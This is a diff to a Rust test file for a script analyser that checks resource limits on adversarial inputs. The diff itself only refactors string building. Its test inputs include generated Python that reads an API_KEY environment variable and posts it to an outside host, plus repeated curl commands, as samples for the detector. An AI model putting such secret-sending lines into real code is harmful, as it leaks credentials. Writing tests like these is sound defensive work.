@@ -1,5 +1,7 @@
 //! Scripts that are written to keep the analysis busy, to exhaust its memory or its stack.
 
+use std::fmt::Write as _;
+
 use super::*;
 use crate::work::looks;
 
@@ -60,7 +62,7 @@ fn copies_of_a_table_are_paid_for() {
     let entries: Vec<_> = (0..60).map(|at| format!("'k{at}': {{'x': s, 'y': s, 'z': s}}")).collect();
     let mut text = format!("import os\ns = os.environ['API_KEY']\nt = {{{}}}\n", entries.join(", "));
     for at in 0..15_000 {
-        text += &format!("t{at} = t\n");
+        let _ = writeln!(text, "t{at} = t");
     }
     let (taken, found) = analysed(Python, text);
     // As many entries as are copied stay in memory.
@@ -186,7 +188,7 @@ fn the_cost_of_python_grows_with_its_size() {
     ] {
         grows_with_its_size(Python, |times| format!("import requests\nx = {}\n", part.repeat(times)));
     }
-    let calls = |times: usize| (0..times / 8).map(|at| format!("f('{at}')\n")).collect::<String>();
+    let calls = |times: usize| (0..times / 8).map(|at| format!("f('{at}')\n")).collect::<Vec<_>>().concat();
     grows_with_its_size(Python, |times| {
         format!("import requests\ndef f(x):\n    a < {}\n{}", "b ".repeat(times), calls(times))
     });
@@ -242,6 +244,7 @@ fn what_is_cut_short_is_said() {
     assert_eq!(cut(Shell, "curl x; ".repeat(2_100)), Some(Cut::Finds));
     assert_eq!(cut(Shell, "$(".repeat(20) + "x" + &")".repeat(20)), Some(Cut::Depth));
     assert_eq!(cut(PowerShell, "(".repeat(60) + "1" + &")".repeat(60)), Some(Cut::Depth));
-    let sends = (0..210).map(|at| format!("requests.post('https://in.acme.dev/{at}', data=s)\n")).collect::<String>();
+    let sends =
+        (0..210).map(|at| format!("requests.post('https://in.acme.dev/{at}', data=s)\n")).collect::<Vec<_>>().concat();
     assert_eq!(cut(Python, format!("import os, requests\ns = os.environ['API_KEY']\n{sends}")), Some(Cut::Finds));
 }
